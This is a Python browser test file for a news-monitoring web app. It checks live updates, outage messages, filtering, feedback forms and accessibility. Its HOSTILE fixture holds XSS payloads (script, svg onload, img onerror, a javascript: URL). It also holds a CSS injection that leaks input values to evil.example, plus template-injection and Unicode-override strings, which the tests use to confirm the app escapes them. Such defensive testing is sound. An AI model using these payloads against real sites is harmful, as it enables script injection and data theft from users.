"""Reading in a real browser: what is hostile stays text, live news by events, narrowing, and pages for everybody."""

from __future__ import annotations

import asyncio
import re
import socket
from collections.abc import AsyncIterator
from dataclasses import dataclass

import pytest
import uvicorn
from sqlalchemy import update

from services.cli.account_desk import AccountDesk
from services.cli.reading_desk import ReadingDesk
from services.desk.app import build_desk
from services.desk.use_cases.definitions import Definitions
from shared.store.harvest import ArticleRow
from shared.store.unit_of_work import Database, Work
from tests.browser.axe import violations
from tests.browser.conftest import Reader
from tests.browser.test_accounts import Served, set_up
from tests.live.desk.conftest import WoundClock
from tests.live.desk.desk_rows import AGREEMENTS, MORNING, SECTORS, Story
from tests.live.desk.door_keeping import account_desk
from tests.live.desk.reading_house import reading_desk
from tests.live.desk.test_desk_today_pages import Newsroom

pytestmark = [pytest.mark.browser, pytest.mark.live]
PHONE = {"width": 360, "height": 740}
OVERRIDE = "\u202e"
HOSTILE = {
    "script": "<script>document.title='owned'</script>Pact",
    "svg": "<svg onload=\"document.title='owned'\"><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "quote": "\"'><img src=x onerror=\"document.title='owned'\">",
    "style": "</title><style>@import url(//evil.example/x);input[value^=a]{background:url(//evil.example/a)}</style>",
    "template": "{{ 7*7 }} {% raw %} ${7*7} <!--",
    "override": f"{OVERRIDE}tcaP dengis\u2066",
    "long": "Договор" * 150_000,
}


@dataclass(frozen=True)
class Desk(Served):
    """A desk that a browser reaches, with what it reads."""

    reading: ReadingDesk
    newsroom: Newsroom
    database: Database


@pytest.fixture
async def desk(database: Database, definitions: Definitions, reader: Reader) -> AsyncIterator[Desk]:
    clock = WoundClock(MORNING)
    house: AccountDesk = account_desk(database, clock=clock)
    reading = reading_desk(database, definitions, house.doors, clock, beat_seconds=0.3)
    app = build_desk(definitions, house.doors, agreements=AGREEMENTS, sectors=SECTORS, pages=reading.pages)
    listener = socket.create_server(("127.0.0.1", 0))
    server = uvicorn.Server(uvicorn.Config(app, log_level="warning", lifespan="off", timeout_graceful_shutdown=2))
    serving = asyncio.create_task(server.serve(sockets=[listener]))
    url = f"http://127.0.0.1:{listener.getsockname()[1]}"
    yield Desk(url, house, clock, reading, Newsroom(definitions, database), database)
    await reader.page.close()
    server.should_exit = True
    reading.live.close()
    await serving


async def test_a_hostile_article_is_text_everywhere(reader: Reader, desk: Desk):
    page = reader.page
    fetched: list[str] = []
    page.on("request", lambda request: fetched.append(request.url))
    for number, (_, attack) in enumerate(HOSTILE.items()):
        short = attack[:3_000]
        story = Story(
            title=attack,
            evidence=short,
            agreement=short[:200],
            sector=short[:200],
            minutes_ago=number + 1,
            url="javascript:document.title='owned'",
        )
        alert_id = await desk.newsroom.alerts(story, await desk.newsroom.comes(story, outlet=short[:300]))
        for address in (f"/stories/{story.article_id}", f"/articles/{story.article_id}", f"/alerts/{alert_id}"):
            await page.goto(desk.url + address)
            shown = await page.locator("h1").inner_text()
            assert OVERRIDE not in await page.locator("main").inner_text()
            assert shown[:30].rstrip("…") in attack.replace(OVERRIDE, ""), address
            assert "owned" not in (await page.title()).partition("<")[0]
    await page.goto(desk.url)
    await page.locator("#live").get_by_text("Live").wait_for()
    assert await page.locator(".story").count() == len(HOSTILE)
    assert await page.title() == "Pactwatch"
    assert await page.locator("main img, main svg, main script, main style, main a[href^=javascript]").count() == 0
    assert OVERRIDE not in await page.locator("main").inner_text()
    assert all(address.startswith(desk.url) for address in fetched)
    assert len(await (await page.goto(desk.url)).body()) < 150_000  # type: ignore[union-attr]


async def test_news_is_on_the_page_half_a_second_after_its_commit(reader: Reader, desk: Desk):
    page = reader.page
    desk.reading.live.know(())
    await page.goto(desk.url)
    await page.locator("#live").get_by_text("Live", exact=True).wait_for()
    took = []
    for number in range(3):
        await desk.newsroom.comes(Story(title=f"Breaking {number}", minutes_ago=0))
        began = asyncio.get_running_loop().time()
        desk.reading.live.tell()
        await page.locator(".story").get_by_role("link", name=f"Breaking {number}", exact=True).wait_for()
        took.append(asyncio.get_running_loop().time() - began)
    assert min(took) < 0.5, took
    assert "Breaking" in await page.locator("#told").inner_text()


async def test_the_page_says_what_is_away_and_that_it_is_back(reader: Reader, desk: Desk):
    live = reader.page.locator("#live")
    desk.reading.live.know(("classifier",))
    await reader.page.goto(desk.url)
    await live.get_by_text("the classifier is away").wait_for()
    desk.reading.live.know(("bus",))
    await live.get_by_text("The bus is away").wait_for()
    desk.reading.live.know(())
    await live.get_by_text("Live", exact=True).wait_for()


async def test_an_officer_narrows_keeps_reads_and_says_what_is_right(reader: Reader, desk: Desk):
    page = reader.page
    relos = Story(title="Pact signed", minutes_ago=3)
    await desk.newsroom.comes(relos)
    await desk.newsroom.comes(Story(title="Rupee talks", agreement="inr-rub", sector="finance", stage="announced"))
    await set_up(reader, desk)
    await page.goto(desk.url)
    await page.get_by_role("group", name="Narrow to").get_by_role("link", name=re.compile("Defence")).click()
    assert await page.locator(".story").count() == 1
    await page.get_by_text("Keep this view").click()
    await page.get_by_label("Its name").fill("My sector")
    await page.get_by_role("button", name="Keep it").click()
    await page.get_by_role("link", name="My sector").wait_for()
    await page.get_by_role("link", name="Pact signed", exact=True).click()
    await page.get_by_role("link", name=re.compile("Its verdict")).click()
    assert await page.locator("mark").count() >= 1
    await page.get_by_text("Wrong sector").click()
    await page.get_by_label("Right would be").first.select_option("health")
    await page.locator("form", has=page.locator("#sector-1")).get_by_role("button", name="Say so").click()
    await page.get_by_role("status").get_by_text("Kept, thank you").wait_for()
    assert "Health" in await page.locator("#feedback ~ p").last.inner_text()


async def test_everybody_can_read_it(reader: Reader, desk: Desk):
    page = reader.page
    story = Story(title="Pact signed " + "долго" * 40)
    alert_id = await desk.newsroom.alerts(story, await desk.newsroom.comes(story))
    await desk.newsroom.comes(Story(title="Another", agreement="inr-rub", sector="finance", language="ru"))
    async with desk.database.begin(Work) as work:
        await work.session.execute(update(ArticleRow).values(text=f"{story.evidence}\nMore of it.\n" * 3))
    await set_up(reader, desk)
    article = f"/articles/{story.article_id}"
    addresses = [
        "/",
        "/?q=sector:finance",
        "/?q=sector:(",
        f"/stories/{story.article_id}",
        article,
        f"/alerts/{alert_id}",
    ]
    for address in [*addresses, f"{article}/why-not?rule=Agreement: RELOS"]:
        for size in ({"width": 1280, "height": 800}, PHONE):
            await page.set_viewport_size(size)  # type: ignore[arg-type]
            await page.goto(desk.url + address)
            assert await page.evaluate("document.documentElement.scrollWidth") <= size["width"], address
        assert await violations(page) == [], address
    reader.complaints.clear()  # the query that is none
